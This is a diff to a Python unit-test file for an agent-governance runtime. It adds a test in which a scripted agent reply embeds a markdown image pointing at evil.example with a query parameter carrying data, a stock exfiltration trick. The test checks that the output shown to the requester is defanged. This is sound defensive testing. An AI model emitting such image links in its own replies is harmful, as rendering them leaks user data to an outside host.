@@ -4,6 +4,7 @@ import pytest
 from tests.unit.runtime.post import CLERK, POLICY, Post
 
 from dueprocess.agent import Calls, End, StepCall, Workflow
+from dueprocess.agent.records import RunFinished
 from dueprocess.gate import ActionDenied, ActionDispatched, ActionHeld
 from dueprocess.ledger import Store
 from dueprocess.runtime import DeniedCall, HeldCall, Performed, RunStatus, SucceededCall, Task, approve, submit
@@ -242,6 +243,19 @@ def test_i7_guarded_calls_are_asked_as_well(store: Store):
         again = bench.govern("write to bob@house.example")
         assert rules(again.call(*send("bob@house.example", "a third time"))) == ["send_letter.control"]
         assert [to for to, _ in post.sent] == ["bob@house.example"]
+
+
+def test_i7_what_the_requester_is_shown_opens_nothing_that_nobody_vouches_for(store: Store):
+    post = Post()
+    says = Line(text="All done. ![x](https://evil.example/?d=plan) See bob@house.example or www.evil.example.")
+    with Workbench(tools=post.tools(), policy=POLICY, script=[Line(calls=(READ,)), says], store=store) as bench:
+        run = bench.submit(TASK)
+        bench.work()
+        (finished,) = bench.records(run, RunFinished)
+        assert isinstance(finished, RunFinished)
+        assert finished.result == (
+            "All done. [x](https[:]//evil[.]example/?d=plan) See bob@house.example or www[.]evil[.]example[.]"
+        )
 
 
 def test_i7_a_value_that_a_person_endorsed_is_vouched_for_the_rest_of_the_run(store: Store):
